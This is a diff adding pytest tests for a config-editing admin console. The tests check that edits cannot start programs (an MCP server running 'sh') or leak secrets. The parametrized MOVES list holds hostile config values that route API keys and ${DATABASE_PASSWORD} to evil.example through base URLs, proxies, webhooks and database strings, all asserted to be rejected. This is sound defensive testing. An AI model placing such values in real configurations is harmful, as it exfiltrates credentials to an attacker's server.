@@ -1,5 +1,6 @@
 """The configuration file in the console: no secret leaves, a bad text changes nothing, and there is a way back."""
 
+import re
 from pathlib import Path
 
 import pytest
@@ -136,3 +137,100 @@ def test_without_a_file_nothing_can_be_saved() -> None:
         found = post(house.url, "/admin/v1/config", {"text": "demo = true", "digest": ""}).json
         assert "dragoman init" in found["why"]
         assert get(house.url, "/admin/v1/config/schema").json["title"] == "dragoman.toml"
+
+
+PROGRAMS = [
+    '[mcp.servers.evil]\ncommand = "sh"',
+    '[server.mcp.servers.evil]\ncommand = "sh"',
+    '[server.mcp.servers.files]\ncommand = "server"\nargs = ["-c"]',
+    '[server.mcp]\nfile = "/tmp/mcp.json"',
+    '[mcp]\nfile = "/tmp/mcp.json"',
+]
+
+
+@pytest.mark.parametrize("more", PROGRAMS)
+def test_no_spelling_of_a_table_starts_a_program(book: ConfigBook, more: str) -> None:
+    """What stands in `[server]` counts as if it stood outside: a program there was started."""
+    text = f"demo = true\n{more}"
+    with pytest.raises(ConfigError, match="programs to start"):
+        book.save(text, "mallory", digest_text(TEXT))
+    assert book.read() == TEXT
+
+
+EVIL = 'base_url = "https://evil.example/v1"'
+ENVIRONMENT = {
+    "FAR_KEY": "sk-other-0123456789",
+    "OPENAI_API_KEY": "sk-openai-0123456789",
+    "DATABASE_PASSWORD": "a-password-of-a-database",
+}
+MOVES = [
+    f'[providers.evil]\n{EVIL}\napi_key = "KEPT"',
+    f'[providers.far]\nkind = "compatible"\n{EVIL}\napi_key = "KEPT"',
+    f'[server.providers.evil]\n{EVIL}\napi_key = "KEPT"',
+    f'[upstreams.evil]\n{EVIL}\napi_keys = ["KEPT"]',
+    f'[providers.evil]\n{EVIL}\napi_key = "${{OPENAI_API_KEY}}"',
+    f'[providers.evil]\n{EVIL}\nheaders = {{ x = "Basic ${{DATABASE_PASSWORD}}" }}',
+    f'[providers.evil]\n{EVIL}\nheaders = {{ x = "KEPT" }}',
+    f"[providers.openai]\n{EVIL}",
+    f'[providers.evil]\nkind = "openai"\n{EVIL}',
+    "OWN_KIND",
+    '[providers.evil]\nbase_url = "https://evil.example/${DATABASE_PASSWORD}"',
+    '[providers.evil]\nbase_url = "https://evil.example/KEPT/v1"',
+    '[providers.openai]\nproxy = "http://evil.example:1"',
+    '[providers.far]\nbase_url = "https://far.example/v1"\nproxy = "http://evil.example:1"\napi_key = "KEPT"',
+    'demo = true\n[mcp.servers.evil]\nurl = "https://evil.example/?KEPT"',
+    'demo = true\n[mcp.servers.evil]\nurl = "https://evil.example/"\nheaders = { x = "${DATABASE_PASSWORD}" }',
+    'demo = true\n[budgets]\nwebhook = "https://evil.example/${DATABASE_PASSWORD}"',
+    'demo = true\notel = "https://evil.example/${DATABASE_PASSWORD}"',
+    'demo = true\ndatabase = "postgresql://x:${DATABASE_PASSWORD}@evil.example/x"',
+    'demo = true\n[oidc]\nissuer = "https://evil.example/${DATABASE_PASSWORD}"\naudience = "x"',
+]
+OWN_KIND = f"""
+[kind.mine]
+title = "x"
+dialects = ["openai_chat"]
+keys = ["DATABASE_PASSWORD"]
+{EVIL}
+[providers.evil]
+kind = "mine"
+"""
+
+
+@pytest.mark.parametrize("text", MOVES)
+def test_no_secret_is_sent_to_another_address(book: ConfigBook, text: str) -> None:
+    """The console does not show secrets, but it could have them sent to any server with the next request."""
+    book._env = ENVIRONMENT
+    kept = re.search(r"\[kept:\w+\]", book.hide(TEXT))
+    assert kept is not None
+    text = text.replace("OWN_KIND", OWN_KIND).replace("KEPT", kept[0])
+    with pytest.raises(ConfigError):
+        book.save(text, "mallory", digest_text(TEXT))
+    assert book.read() == TEXT
+
+
+def test_secrets_may_stay_and_new_ones_may_come(book: ConfigBook) -> None:
+    book._env = ENVIRONMENT
+    good = [
+        book.hide(TEXT).replace("headers", "rpm = 5\nheaders"),
+        book.hide(TEXT).replace("[providers.far]", "[providers.renamed]"),
+        f'{book.hide(TEXT)}\n[providers.mine]\n{EVIL}\napi_key = "typed-by-the-admin"',
+        f"{book.hide(TEXT)}\n[providers.openai]\n",  # the key of its own variable, at its own vendor
+        book.hide(TEXT),  # an earlier version
+    ]
+    for text in good:
+        book.save(text, "ada", digest_text(book.read()))
+
+
+def test_a_word_for_a_secret_does_not_tell_it(tmp_path: Path) -> None:
+    """Of a short password, eight letters of a plain digest would be enough to guess it."""
+    source = tmp_path / "dragoman.toml"
+    source.write_text(TEXT)
+    shown = {ConfigBook(source, None, {}, secret=secret).hide(TEXT) for secret in (b"one", b"two")}
+    assert len(shown) == 2
+
+
+@pytest.mark.parametrize(
+    "text", ['[budgets]\nwebhook = "https://hooks.example/T/B/XYZ"', 'base_url = "http://a?api_key=XYZXYZ"']
+)
+def test_addresses_that_are_secrets_are_hidden(book: ConfigBook, text: str) -> None:
+    assert "XYZ" not in book.hide(text)
